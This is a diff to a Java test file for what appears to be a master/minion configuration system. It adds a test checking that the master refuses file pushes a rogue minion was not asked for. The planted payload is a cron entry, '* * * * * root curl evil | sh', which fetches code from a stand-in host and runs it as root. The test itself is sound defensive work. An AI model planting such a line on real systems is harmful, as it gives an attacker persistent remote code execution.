@@ -235,9 +235,43 @@ class FileTransferTest {
                 assertEquals(List.of(), all.filter(p -> p.getFileName().toString().equals("escaped")).toList());
             }
 
-            rogue.endpoint.send(new FilePush(8, "t2", "/tmp/ok", 0, data, true, "0".repeat(64), 0644));
+            rogue.endpoint.send(new FilePush(8, "t2", "/tmp/x", 0, data, true, "0".repeat(64), 0644));
             assertTrue(awaitAck(rogue, 8).error().contains("SHA-256"));
-            assertFalse(Files.exists(root.resolve("master/cache/minions/mallory/files/tmp/ok")));
+            assertFalse(Files.exists(root.resolve("master/cache/minions/mallory/files/tmp/x")));
+        }
+    }
+
+    @Test
+    void aCpPushJobLetsTheMinionPushOnlyTheFileItAskedFor() throws Exception {
+        try (RogueClient rogue = new RogueClient(cluster.port, Role.MINION, "trudy")) {
+            assertEquals(KeyStatus.PENDING, rogue.endpoint.awaitStatus(WAIT));
+            assertEquals(0, cluster.cli("key", "accept", "trudy").exit());
+            long deadline = System.nanoTime() + WAIT.toNanos();
+            while (rogue.endpoint.status() != KeyStatus.ACCEPTED && System.nanoTime() < deadline) {
+                Thread.sleep(20);
+            }
+            // The operator asks trudy for its syslog; trudy never answers the job, and pushes other files instead.
+            cluster.master.client().cast(io.brine.master.JobSpec.of("trudy", "cp.push", "/var/log/syslog")
+                    .withTimeout(Duration.ofSeconds(60)));
+            byte[] planted = "* * * * * root curl evil | sh".getBytes(StandardCharsets.US_ASCII);
+            rogue.endpoint.send(new FilePush(1, "t1", "/etc/cron.d/planted", 0, planted, true, sha256(planted), 0644));
+            FilePushAck refused = awaitAck(rogue, 1);
+            assertTrue(refused.error() != null && refused.error().contains("no cp.push job running on this minion "
+                    + "asked for '/etc/cron.d/planted'"), String.valueOf(refused.error()));
+            // even the name of a file the job could have asked for, but did not
+            rogue.endpoint.send(new FilePush(2, "t2", "/var/log/auth.log", 0, planted, true, sha256(planted), 0644));
+            assertTrue(String.valueOf(awaitAck(rogue, 2).error()).contains("asked for '/var/log/syslog'"));
+            assertTrue(cluster.master.dropCounters().contains("pushes_refused_unrequested=2"),
+                    cluster.master.dropCounters());
+
+            // the file asked for, however spelled, is taken; nothing else was written
+            byte[] log = "kernel: ok\n".getBytes(StandardCharsets.US_ASCII);
+            rogue.endpoint.send(new FilePush(3, "t3", "/var//log/./syslog", 0, log, true, sha256(log), 0640));
+            assertEquals(null, awaitAck(rogue, 3).error());
+            Path files = root.resolve("master/cache/minions/trudy/files");
+            try (Stream<Path> all = Files.walk(files)) {
+                assertEquals(List.of(files.resolve("var/log/syslog")), all.filter(Files::isRegularFile).toList());
+            }
         }
     }
 
